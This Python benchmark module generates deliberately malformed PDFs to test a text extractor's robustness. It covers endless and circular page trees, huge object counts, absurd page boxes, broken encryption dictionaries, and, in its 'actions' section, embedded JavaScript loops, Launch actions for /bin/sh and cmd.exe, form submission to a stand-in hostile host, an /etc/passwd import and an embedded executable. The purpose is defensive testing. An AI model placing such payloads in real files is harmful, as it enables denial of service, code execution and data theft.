"""PDF files whose structure is hostile: circles, page trees without end, boxes of no size, actions, passwords."""

from __future__ import annotations

import random
import zlib
from collections.abc import Iterator
from pathlib import Path

from bench.hostile.case import TEXT, Case, kind
from bench.hostile.pdf_streams import PAGE, with_objects
from tests.unit.read import pdf_maker as pdf

_FIXTURES = Path(__file__).resolve().parents[2] / "tests" / "fixtures"
_CATALOGUE = b"<</Type/Catalog/Pages 2 0 R>>"
_SAYS = b"<</Type/Page/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>"
_FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
_WORDS = pdf.stream(b"BT /F 12 Tf 60 700 Td (12) Tj ET")


@kind("pdf: page trees without end")
def trees(dice: random.Random) -> Iterator[Case]:
    """Trees that hold themselves, a hundred thousand levels, counts that lie, no pages at all."""
    for name, tree, text in (
        ("itself", b"<</Type/Pages/Count 1/Kids[2 0 R]>>", None),
        ("count_of_billions", b"<</Type/Pages/Count 2147483647/Kids[3 0 R]>>", "12"),
        ("count_below_zero", b"<</Type/Pages/Count -5/Kids[3 0 R]>>", "12"),
        ("kids_that_are_none", b"<</Type/Pages/Count 3/Kids[9 0 R null 7]>>", None),
        ("none", b"<</Type/Pages/Count 0/Kids[]>>", None),
    ):
        yield Case(f"{name}.pdf", pdf.file([_CATALOGUE, tree, _SAYS, _WORDS, _FONT]), text)
    both = [b"<</Type/Pages/Count 9/Kids[3 0 R]>>", b"<</Type/Pages/Count 9/Parent 2 0 R/Kids[2 0 R 3 0 R]>>"]
    yield Case("circle.pdf", pdf.file([_CATALOGUE, *both]))
    deep = [b"<</Type/Pages/Count 1/Kids[%d 0 R]>>" % (n + 3) for n in range(100_000)]
    yield Case("deep.pdf", pdf.file([_CATALOGUE, *deep, _SAYS]))
    parents = [b"<</Type/Page/Parent %d 0 R/Contents 3 0 R>>" % (n + 4) for n in range(5000)]
    tree = b"<</Type/Pages/Count 1/Kids[4 0 R]>>"
    yield Case("parents.pdf", pdf.file([_CATALOGUE, tree, _WORDS, *parents, b"<</Parent 4 0 R>>"]), "12")


@kind("pdf: a million pages")
def million_pages(dice: random.Random) -> Iterator[Case]:
    """One page a million times, and as many as a file may have objects."""
    kids = b"3 0 R " * 1_000_000
    yield Case(
        "one_page.pdf", pdf.file([_CATALOGUE, b"<</Type/Pages/Count 1000000/Kids[%s]>>" % kids, _SAYS, _WORDS, _FONT])
    )
    own = [b"<</Type/Page>>"] * 200_000
    kids = b" ".join(b"%d 0 R" % (n + 3) for n in range(len(own)))
    yield Case("own_pages.pdf", pdf.file([_CATALOGUE, b"<</Type/Pages/Count %d/Kids[%s]>>" % (len(own), kids), *own]))
    nested = b"<</Type/Pages/Count 1000/Kids[%s]>>"
    tree = [nested % (b"3 0 R " * 1000), nested % (b"4 0 R " * 1000), _SAYS.replace(b"4 0 R", b"5 0 R"), _WORDS, _FONT]
    yield Case("nested.pdf", pdf.file([_CATALOGUE, *tree]))


@kind("pdf: boxes of no size")
def boxes(dice: random.Random) -> Iterator[Case]:
    """Pages of kilometres, of nothing, turned inside out: what stands on them is still the text."""
    for name, box in (
        ("kilometres", b"/MediaBox[0 0 1000000000 1000000000]"),
        ("inside_out", b"/MediaBox[595 842 0 0]"),
        ("turned_by_nothing", b"/MediaBox[0 0 595 842]/Rotate 17"),
        ("turned_often", b"/MediaBox[0 0 595 842]/Rotate 3600000000"),
        ("unit", b"/MediaBox[0 0 595 842]/UserUnit 1e30"),
        ("no_numbers", b"/MediaBox[/a(b)null true]"),
    ):
        yield Case(f"{name}.pdf", pdf.pages([PAGE], box), TEXT)
    yield Case("elsewhere.pdf", pdf.pages([PAGE], b"/MediaBox[5000 5000 5595 5842]"))


@kind("pdf: objects in circles")
def circles(dice: random.Random) -> Iterator[Case]:
    """Lengths, streams of objects and tables of objects that lead back to themselves."""
    length = pdf.stream(PAGE).replace(b"/Length %d" % len(PAGE), b"/Length 6 0 R")
    yield Case("length.pdf", with_objects(length, []), TEXT)
    sound = pdf.pages([PAGE])
    at = sound.rfind(b"startxref\n") + 10
    place = int(sound[at:].split()[0])
    yield Case("previous_table.pdf", sound.replace(b"/Root", b"/Prev %d/Root" % place), TEXT)
    yield Case("table_of_billions.pdf", sound.replace(b"/Size 7", b"/Size 2147483647"), TEXT)
    inner = b"1 0 2 40 " + _CATALOGUE + b" " * 20 + b"<</Type/Pages/Kids[]>>"
    held = b"<</Type/ObjStm/N 2/First 9/Extends 1 0 R/Filter/FlateDecode/Length %d>>stream\n" % len(
        zlib.compress(inner)
    )
    yield Case("stream_of_objects.pdf", pdf.file([held + zlib.compress(inner) + b"\nendstream"]))
    many = b"<</Type/ObjStm/N 2000000000/First 2000000000/Length 9>>stream\n1 0 2 9 x\nendstream"
    yield Case("objects_by_billions.pdf", pdf.file([many, b"<</Type/Pages/Kids[]>>"]))
    contents = [b"[7 0 R 7 0 R]", b"[7 0 R 7 0 R]"]
    yield Case("contents.pdf", with_objects(contents[0], contents[1:]))
    yield Case("brackets.pdf", pdf.file([_CATALOGUE, b"<</Type/Pages/Count 1/Kids" + b"[" * 200_000]))
    names = b"<</Kids[7 0 R]/Names[]>>"
    yield Case("names.pdf", with_objects(PAGE, [names]).replace(b"/Catalog", b"/Catalog/Names<</Dests 7 0 R>>"), TEXT)


@kind("pdf: actions")
def actions(dice: random.Random) -> Iterator[Case]:
    """Scripts, programs, forms and files that a page asks for: nothing of it is done, the text is the text."""
    host = b"http://hostile.invalid/"
    for name, action in (
        ("script", b"<</S/JavaScript/JS(app.alert\\(1\\);while\\(1\\);)>>"),
        ("program", b"<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>>>"),
        ("address", b"<</S/URI/URI(%s)>>" % host),
        ("form", b"<</S/SubmitForm/F<</FS/URL/F(%s)>>/Flags 4>>" % host),
        ("import", b"<</S/ImportData/F(/etc/passwd)>>"),
        ("file", b"<</S/GoToR/F(\\\\\\\\hostile.invalid\\\\share)/D[0/Fit]>>"),
    ):
        data = with_objects(PAGE, [action], of_page=b"/AA<</O 7 0 R/C 7 0 R>>")
        yield Case(f"{name}.pdf", data.replace(b"/Type/Catalog", b"/Type/Catalog/OpenAction 7 0 R"), TEXT)
    elsewhere = pdf.stream(b"", b"/F<</FS/URL/F(%s)>>" % host)
    yield Case("contents_elsewhere.pdf", with_objects(elsewhere, []))
    attached = b"<</Names<</EmbeddedFiles<</Names[(x)<</EF<</F 8 0 R>>/F(x.exe)>>]>>>>>>"
    yield Case("attachment.pdf", with_objects(PAGE, [attached, pdf.stream(b"MZ")]), TEXT)


@kind("pdf: passwords")
def passwords(dice: random.Random) -> Iterator[Case]:
    """A password to open is asked for; one that only forbids printing is none for a reader. And keys that are nonsense."""
    yield Case("to_open.pdf", (_FIXTURES / "pdf" / "locked_user.pdf").read_bytes())
    said = "全年办结矛盾纠纷34件，开展普法宣传12场次。"
    yield Case("of_the_owner.pdf", (_FIXTURES / "pdf" / "locked_owner.pdf").read_bytes(), said)
    for name, key in (
        ("unknown_filter", b"<</Filter/Nobody/V 9/R 9>>"),
        ("long_key", b"<</Filter/Standard/V 2/R 3/Length 2147483640/O(x)/U(x)/P -1>>"),
        ("no_keys", b"<</Filter/Standard/V 5/R 6/Length 256/P -1>>"),
    ):
        data = pdf.pages([PAGE]).replace(b"trailer<<", b"trailer<</Encrypt %s/ID[<00><00>]" % key)
        yield Case(f"{name}.pdf", data)
